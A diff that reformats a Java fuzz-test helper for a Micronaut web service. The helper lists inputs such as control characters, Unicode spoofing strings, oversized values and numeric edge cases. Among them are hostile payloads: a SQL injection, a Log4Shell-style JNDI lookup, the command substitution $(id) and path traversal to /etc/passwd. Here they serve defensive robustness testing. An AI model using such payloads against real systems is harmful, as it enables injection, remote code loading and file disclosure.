@@ -2,7 +2,6 @@ package dev.valetkey.micronaut.web.fuzz;
 
 import com.fasterxml.jackson.core.type.TypeReference;
 import com.fasterxml.jackson.databind.ObjectMapper;
-
 import org.junit.jupiter.api.Assumptions;
 
 import java.io.IOException;
@@ -17,7 +16,8 @@ import java.util.stream.Stream;
 final class NaughtyStrings {
 
     /** The npm package big-list-of-naughty-strings, which the build installs. */
-    private static final Path LIST = Path.of("target/naughty-strings/node_modules/big-list-of-naughty-strings/blns.json");
+    private static final Path LIST =
+            Path.of("target/naughty-strings/node_modules/big-list-of-naughty-strings/blns.json");
 
     private static final int LONG = 9_000;
 
@@ -46,15 +46,72 @@ final class NaughtyStrings {
     static List<String> ours() {
         return Stream.of(
                         halves(),
-                        List.of("\0", "a\0b", "\u0001\u001f\u007f\u0085", "a\rb\nc", "\u2028\u2029", "\ufeffa", "\uffff\ufffe"),
-                        List.of("\u202egnp.exe", "\u2066x\u2069", "\u200f\u061c", "\u0430dmin", "\u00ad", "e\u0301".repeat(200)),
-                        List.of("'; DROP TABLE upload; --", "${jndi:ldap://a.test/x}", "%s%n%1$d", "{0}{}", "#{7*7}", "$(id)"),
-                        List.of("../../etc/passwd", "..%2f..%2f", "%00", "%", "%zz", "%c0%af", "a+b", "a&b=c#d?e", "\\\\x\\y"),
-                        List.of("null", "undefined", "NaN", "1e400", "-0", "-1", "1.0", "9".repeat(40), "0x1F", "٣", "true"),
-                        List.of("\ud83d\ude00", "\ud83d\ude00".repeat(100), "\ud83c\udff4\udb40\udc67\udb40\udc7f", "ﷺ".repeat(90)),
-                        List.of("a/b;c=d", "text/plain; a=\"" + "x ".repeat(100) + "\"", "wait=99999999999", "wait=\"5", "W/\"x", "\"a"),
-                        List.of("a ".repeat(LONG / 2), "\"" + "a".repeat(LONG / 3) + "\"", "x/x;" + "a=b;".repeat(LONG / 4), "-".repeat(LONG)),
-                        List.of("a,".repeat(LONG / 2), "\ud83d\ude00".repeat(LONG / 6), "https://" + "a.".repeat(LONG / 2), " ".repeat(LONG)))
+                        List.of(
+                                "\0",
+                                "a\0b",
+                                "\u0001\u001f\u007f\u0085",
+                                "a\rb\nc",
+                                "\u2028\u2029",
+                                "\ufeffa",
+                                "\uffff\ufffe"),
+                        List.of(
+                                "\u202egnp.exe",
+                                "\u2066x\u2069",
+                                "\u200f\u061c",
+                                "\u0430dmin",
+                                "\u00ad",
+                                "e\u0301".repeat(200)),
+                        List.of(
+                                "'; DROP TABLE upload; --",
+                                "${jndi:ldap://a.test/x}",
+                                "%s%n%1$d",
+                                "{0}{}",
+                                "#{7*7}",
+                                "$(id)"),
+                        List.of(
+                                "../../etc/passwd",
+                                "..%2f..%2f",
+                                "%00",
+                                "%",
+                                "%zz",
+                                "%c0%af",
+                                "a+b",
+                                "a&b=c#d?e",
+                                "\\\\x\\y"),
+                        List.of(
+                                "null",
+                                "undefined",
+                                "NaN",
+                                "1e400",
+                                "-0",
+                                "-1",
+                                "1.0",
+                                "9".repeat(40),
+                                "0x1F",
+                                "٣",
+                                "true"),
+                        List.of(
+                                "\ud83d\ude00",
+                                "\ud83d\ude00".repeat(100),
+                                "\ud83c\udff4\udb40\udc67\udb40\udc7f",
+                                "ﷺ".repeat(90)),
+                        List.of(
+                                "a/b;c=d",
+                                "text/plain; a=\"" + "x ".repeat(100) + "\"",
+                                "wait=99999999999",
+                                "wait=\"5",
+                                "W/\"x",
+                                "\"a"),
+                        List.of(
+                                "a ".repeat(LONG / 2),
+                                "\"" + "a".repeat(LONG / 3) + "\"",
+                                "x/x;" + "a=b;".repeat(LONG / 4),
+                                "-".repeat(LONG)),
+                        List.of(
+                                "a,".repeat(LONG / 2),
+                                "\ud83d\ude00".repeat(LONG / 6),
+                                "https://" + "a.".repeat(LONG / 2),
+                                " ".repeat(LONG)))
                 .flatMap(List::stream)
                 .toList();
     }
